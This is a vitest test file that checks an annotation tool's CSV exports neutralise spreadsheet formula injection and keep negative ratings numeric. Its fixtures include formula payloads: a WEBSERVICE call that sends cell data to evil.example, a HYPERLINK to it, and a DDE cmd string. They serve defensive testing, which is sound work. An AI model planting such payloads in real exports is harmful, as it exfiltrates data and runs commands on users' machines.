import { parseCsv } from "@quorum/core";
import { testTargets } from "@quorum/storage";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { testApp } from "./test-client.js";

const targets = await testTargets();

async function cells(text: string): Promise<string[][]> {
  const rows: string[][] = [];
  for await (const record of parseCsv([text])) rows.push(record.fields);
  return rows;
}

/** A cell a spreadsheet would run as a formula: starts with = + - @ tab or CR, and is not a plain number. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

describe.each(targets)("CSV exports cannot carry spreadsheet formulas, on $dialect", (target) => {
  let t: Awaited<ReturnType<typeof testApp>>;
  let close: () => Promise<void>;

  beforeAll(async () => {
    const database = await target.open();
    close = () => database.close();
    t = await testApp(database);
  });
  afterAll(() => close());

  async function labelOnce(projectId: number, value: unknown) {
    const annotator = await t.userSession("annotator");
    const lease = await t.call("POST", `/projects/${projectId}/assignments/next`, { cookie: annotator.cookie });
    const judged = await t.call("POST", `/assignments/${lease.json.assignment.id}/judgment`, {
      cookie: annotator.cookie,
      body: { value, activeMs: 100, clientKey: "k" },
    });
    expect(judged.status).toBe(201);
  }

  it("neutralises annotators' free-text labels, task data and ids in both CSV layouts", async () => {
    const project = await t.call("POST", "/projects", {
      cookie: t.admin,
      body: { name: "Free text", schema: { type: "free_text", maxLength: 200 }, overlap: 1 },
    });
    const id = project.json.id;
    const task = {
      id: "@SUM(1+1)",
      data: { text: '=HYPERLINK("http://evil.example","click")', note: "-2+3+cmd|' /C calc'!A0" },
    };
    expect(
      (await t.call("POST", `/projects/${id}/imports`, { cookie: t.admin, raw: JSON.stringify(task) })).status,
    ).toBe(200);
    await labelOnce(id, '=WEBSERVICE("http://evil.example/?"&A1)');
    for (const per of ["judgment", "task"]) {
      const file = await t.call("GET", `/projects/${id}/export?format=csv&per=${per}`, { cookie: t.admin });
      expect(file.status).toBe(200);
      const rows = await cells(file.text);
      expect(rows.flat().filter(runsAsFormula), per).toEqual([]);
      expect(rows[1]).toContain('\'=HYPERLINK("http://evil.example","click")');
      expect(rows[1]).toContain("'@SUM(1+1)");
      expect(rows[1]).toContain('\'=WEBSERVICE("http://evil.example/?"&A1)');
    }
  });

  it("keeps negative ratings as numbers, and a neutralised export imports back as it was", async () => {
    const project = await t.call("POST", "/projects", {
      cookie: t.admin,
      body: { name: "Ratings", schema: { type: "rating", min: -3, max: 3 }, overlap: 1 },
    });
    const id = project.json.id;
    await t.call("POST", `/projects/${id}/imports`, { cookie: t.admin, raw: '{"data":{"text":"-danger"}}' });
    await labelOnce(id, -3);
    const file = await t.call("GET", `/projects/${id}/export?format=csv&per=judgment`, { cookie: t.admin });
    const [header, row] = await cells(file.text);
    expect(row![header!.indexOf("label")]).toBe("-3");
    expect(row![header!.indexOf("text")]).toBe("'-danger");
    // Re-importing the export gives the original text back.
    const again = await t.call("POST", "/projects", {
      cookie: t.admin,
      body: { name: "Again", schema: { type: "rating", min: -3, max: 3 } },
    });
    const imported = await t.call("POST", `/projects/${again.json.id}/imports?format=csv`, {
      cookie: t.admin,
      raw: file.text,
    });
    expect(imported.status).toBe(200);
    const tasks = await t.call("GET", `/projects/${again.json.id}/tasks`, { cookie: t.admin });
    expect(tasks.json.tasks[0].data.text).toBe("-danger");
  });
});
